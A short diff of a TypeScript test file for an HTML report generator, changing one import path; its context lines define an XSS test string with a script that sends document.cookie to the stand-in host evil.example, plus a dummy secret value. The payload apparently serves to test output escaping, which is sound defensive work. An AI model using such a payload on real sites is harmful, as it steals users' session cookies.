@@ -6,7 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { htmlReport, type HtmlRun } from '../../src/core/smoke/html.js';
 import type { StepResult } from '../../src/core/smoke/results.js';
 import { parseMermaid, type SequenceDiagram } from '../../src/core/diagram/sequence.js';
-import { parseXml, type XmlElement } from './smoke-xml.js';
+import { parseXml, type XmlElement } from '../fixtures/xml.js';
 
 const XSS = `<img src=x onerror=alert(1)><script>fetch('https://evil.example/'+document.cookie)</script>"'\``;
 const SECRET = 'hunter2-super-secret-value';
